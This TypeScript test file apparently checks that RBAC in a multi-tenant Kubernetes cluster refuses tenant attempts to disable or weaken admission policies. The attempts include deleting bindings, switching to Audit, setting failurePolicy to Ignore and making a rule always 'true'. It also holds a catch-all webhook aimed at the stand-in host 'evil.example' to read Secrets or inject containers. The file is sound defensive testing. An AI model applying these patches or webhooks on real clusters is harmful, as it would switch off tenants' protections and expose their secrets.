import { cis, mitre, requirement } from "../../../controls/ids.ts";
import type { Attempt } from "../support/attempt.ts";
import { jsonPatch, madeInCluster, mergePatch, pathOf, remove } from "../support/requests.ts";
import { table } from "../support/tables.ts";

const admission = "admissionregistration.k8s.io/v1" as const;
const policy = (name: string) => pathOf(admission, "validatingadmissionpolicies", undefined, name);
const policyBinding = (name: string) =>
  pathOf(admission, "validatingadmissionpolicybindings", undefined, name);

const webhook = {
  name: "attempt.example.com",
  clientConfig: { url: "https://evil.example/" },
  rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }],
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
};

/** Admission policies, their bindings, and webhooks. Only RBAC protects them: admission policies don't apply to each other. */
export const attempts: readonly Attempt[] = [
  ...table(
    {
      expect: "refused",
      by: "rbac",
      why: "All guarantees for tenants need admission, and admission policies don't protect themselves.",
      serves: [...requirement("D5", "E2"), ...cis("4.1.11"), ...mitre("T1562.001")],
    },
    [
      {
        as: "developer of checkout",
        name: "deletes the binding of an admission policy",
        does: remove(policyBinding("casemate-images")),
      },
      {
        as: "operator of checkout",
        name: "reduces an admission policy's refusals to warnings",
        does: mergePatch(policyBinding("casemate-pods"), { spec: { validationActions: ["Audit"] } }),
      },
      {
        as: "delegate of checkout",
        name: "excludes its namespace from an admission policy",
        does: mergePatch(policyBinding("casemate-marked"), {
          spec: { matchResources: { namespaceSelector: { matchLabels: { a: "b" } } } },
        }),
      },
      {
        as: "developer of payments",
        name: "makes a failing admission policy admit requests",
        does: mergePatch(policy("casemate-interactive"), { spec: { failurePolicy: "Ignore" } }),
      },
      {
        as: "delegate of payments",
        name: "removes a rule from an admission policy",
        does: jsonPatch(policy("casemate-interactive"), {
          op: "replace",
          path: "/spec/validations/0/expression",
          value: "true",
        }),
      },
      {
        as: "operator of payments",
        name: "deletes an admission policy",
        does: remove(policy("casemate-interactive")),
      },
      {
        as: "namespace admin of checkout",
        name: "deletes all admission policies in one request",
        does: remove(pathOf(admission, "validatingadmissionpolicies")),
      },
      {
        as: "workload of checkout/checkoutservice",
        name: "deletes all bindings of admission policies in one request",
        does: remove(pathOf(admission, "validatingadmissionpolicybindings")),
      },
      {
        as: "developer of checkout",
        name: "creates an admission policy that refuses all other users' requests",
        does: madeInCluster(admission, "ValidatingAdmissionPolicy", "validatingadmissionpolicies"),
      },
      {
        as: "operator of checkout",
        name: "binds an admission policy",
        does: madeInCluster(
          admission,
          "ValidatingAdmissionPolicyBinding",
          "validatingadmissionpolicybindings",
        ),
      },
      {
        as: "delegate of checkout",
        name: "creates a policy that changes other users' objects",
        does: madeInCluster(admission, "MutatingAdmissionPolicy", "mutatingadmissionpolicies"),
      },
      {
        as: "delegate of payments",
        name: "binds a policy that changes other users' objects",
        does: madeInCluster(admission, "MutatingAdmissionPolicyBinding", "mutatingadmissionpolicybindings"),
      },
      {
        as: "developer of payments",
        name: "reads all Secrets in write requests by a validating webhook",
        does: madeInCluster(admission, "ValidatingWebhookConfiguration", "validatingwebhookconfigurations", {
          webhooks: [webhook],
        }),
      },
      {
        as: "delegate of checkout",
        name: "adds containers to other users' pods by a mutating webhook",
        does: madeInCluster(admission, "MutatingWebhookConfiguration", "mutatingwebhookconfigurations", {
          webhooks: [webhook],
        }),
      },
    ],
  ),
  {
    name: "changes the binding of an admission policy",
    as: "platform",
    does: mergePatch(policyBinding("casemate-images"), { metadata: { annotations: { note: "x" } } }),
    expect: "admitted",
    why: "The platform may change admission, and an alert reports it.",
    serves: [...requirement("D5", "D3")],
  },
];
